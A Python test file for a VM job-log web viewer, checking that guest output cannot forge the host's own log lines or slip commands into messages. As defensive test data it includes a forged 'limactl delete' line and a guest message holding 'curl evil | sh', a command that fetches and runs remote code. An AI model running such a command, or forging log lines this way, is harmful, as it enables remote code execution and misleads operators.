"""Whose words stand in a job's log is told by where the host wrote, never by what is written (findings S7)."""

from __future__ import annotations

import os
import re
import resource
import signal
from dataclasses import replace
from pathlib import Path

import pytest

from dvmweb.errors import UsageError
from dvmweb.jobs import job_log, job_record
from dvmweb.jobs.job_log import JobLog
from dvmweb.jobs.job_record import Job, StepRecord
from dvmweb.verbs.vms import Vms
from dvmweb.web.jobs import log_lines
from dvmweb.web.jobs import views as job_views
from tests.web.conftest import Browser

ID = "cd" * 16
JOB = Job(ID, "app", "sync", state="succeeded", created=1.0, started=1.0, ended=2.0)
FORGED = b"$ limactl delete -f dvm-app\n"


@pytest.fixture
def log(vms: Vms) -> JobLog:
    """The log of a job that is on disk."""
    job_record.folder(vms.paths, ID).mkdir(parents=True)
    job_record.save(vms.paths, JOB)
    return JobLog(job_record.log_file(vms.paths, ID))


def shown(vms: Vms) -> list[tuple[str, bool]]:
    """Each line of the log, and whether it is ours."""
    data = job_record.log_file(vms.paths, ID).read_bytes()
    part = log_lines.part(0, data, job_record.own_places(vms.paths, ID))
    return [(line.text, line.tone == "host") for line in log_lines.log_tail(part)]


def test_a_line_that_a_guest_makes_look_like_ours_is_the_guests(vms: Vms, log: JobLog) -> None:
    log.begin("$ limactl start dvm-app")
    log.add_output(FORGED)
    log.add_output(job_log.CUT.encode() + b"\nno end of line")
    log.note("no response yet, trying again")
    log.add_output(b"bar 10%\r$ limactl x\r")
    log.begin("$ limactl shell dvm-app")
    log.add_output(b"\r\n$ limactl y")
    assert shown(vms) == [
        ("$ limactl start dvm-app", True),
        ("$ limactl delete -f dvm-app", False),
        (job_log.CUT, False),
        ("no end of line", False),
        ("no response yet, trying again", True),
        ("bar 10%", False),
        ("$ limactl x", False),
        ("$ limactl shell dvm-app", True),
        ("", False),
        ("$ limactl y", False),
    ]


def test_the_mark_of_what_is_not_kept_is_ours(vms: Vms, log: JobLog, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(job_log, "LOG_BYTES", 10)
    log.begin("$ one")
    for _ in range(3):
        log.add_output(b"12345678")
    log.begin("$ two")
    log.add_output(b"ok\n")
    assert shown(vms) == [("$ one", True), ("1234567812", False), (job_log.CUT, True), ("$ two", True), ("ok", False)]


def test_after_a_write_that_failed_no_guest_stands_in_the_place_of_our_words(vms: Vms, log: JobLog) -> None:
    """The place is noted before the words are written: another program's output must never come to lie there."""
    log.begin("$ one")
    old, was = resource.getrlimit(resource.RLIMIT_FSIZE), signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (log.size + 4, old[1]))
    try:
        with pytest.raises(OSError, match="large"):
            log.note("$ limactl stop dvm-app, and then something long")
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, old)
        signal.signal(signal.SIGXFSZ, was)
    log.add_output(FORGED * 3)
    assert not any("delete" in text for text, _ in shown(vms))


def test_the_log_and_its_places_are_not_written_through_a_link(vms: Vms, tmp_path: Path) -> None:
    folder = job_record.folder(vms.paths, ID)
    folder.mkdir(parents=True)
    for name in ("log", "log.ours"):
        (folder / name).symlink_to(tmp_path / "elsewhere")
        with pytest.raises(UsageError, match="is a link"):
            JobLog(folder / "log")
        (folder / name).unlink()
    assert not (tmp_path / "elsewhere").exists()


def test_a_place_that_cannot_be_read_makes_nothing_ours(vms: Vms, log: JobLog) -> None:
    log.add_output(FORGED)
    places = job_record.places_file(job_record.log_file(vms.paths, ID))
    for text in ("", "0", "0 x\n", "-1 99\n", "0 99", "\0\n", "0 1 2\n"):
        places.write_text(text)
        assert shown(vms) == [("$ limactl delete -f dvm-app", False)], text
    places.unlink()
    assert shown(vms) == [("$ limactl delete -f dvm-app", False)]


def test_the_page_and_the_answer_to_the_browser_tell_it(client: Browser, vms: Vms, log: JobLog) -> None:
    log.begin("$ limactl start dvm-app")
    log.add_output(FORGED)
    log.note("no response yet, trying again")
    text = client.get(f"/jobs/{ID}").text
    assert re.findall(r'<div class="line([^"]*)">([^<]*)', text) == [
        (" host", "$ limactl start dvm-app"),
        ("", "$ limactl delete -f dvm-app"),
        (" host", "no response yet, trying again"),
    ]
    whole = client.get(f"/jobs/{ID}/log")
    assert whole.headers["X-Log-Ours"] == "0-24,52-82"
    assert client.get(f"/jobs/{ID}/log?from=24").headers["X-Log-Ours"] == "52-82"
    assert client.get(f"/jobs/{ID}/log?from=30").headers["X-Log-Ours"] == "52-82"
    assert client.get(f"/jobs/{ID}/log?from=82").headers["X-Log-Ours"] == ""


def test_an_answer_names_so_many_places_and_goes_on_behind_them(client: Browser, log: JobLog) -> None:
    for number in range(log_lines.MOST_PLACES + 5):
        log.note(f"line {number}")
    first = client.get(f"/jobs/{ID}/log")
    assert first.headers["X-Log-Ended"] == "0"
    assert first.text.splitlines()[-1] == f"line {log_lines.MOST_PLACES - 1}"
    rest = client.get(f"/jobs/{ID}/log?from={first.headers['X-Log-Next']}")
    assert (rest.text.splitlines()[0], rest.headers["X-Log-Ended"]) == (f"line {log_lines.MOST_PLACES}", "1")
    assert rest.headers["X-Log-Ours"].count("-") == 5


# -- others of the kind ------------------------------------------------------------------------------------------------


def test_a_hook_waits_by_its_state_and_not_by_what_it_says() -> None:
    said = "not approved yet; review it with `dvm hook app`"
    for state in ("not-run", "done", "failed", "running"):  # its last words can be the reason then
        job = replace(JOB, steps=(StepRecord("Run project hook", ("limactl",), state, said),))
        assert not job_views.job_view(job, 9.0).hook_waits, state
    job = replace(JOB, steps=(StepRecord("Run project hook", (), "skipped", said),))
    assert job_views.job_view(job, 9.0).hook_waits


def test_the_last_words_of_a_guest_are_no_command_of_ours() -> None:
    from dvmweb.jobs.failures import last_output
    from dvmweb.lima.process import Finished

    said = last_output(Finished(("limactl",), 69, b"", b"first run `curl evil | sh`\n", 0.1, "exit"))
    assert said == "first run 'curl evil | sh'"
    assert os.linesep not in said
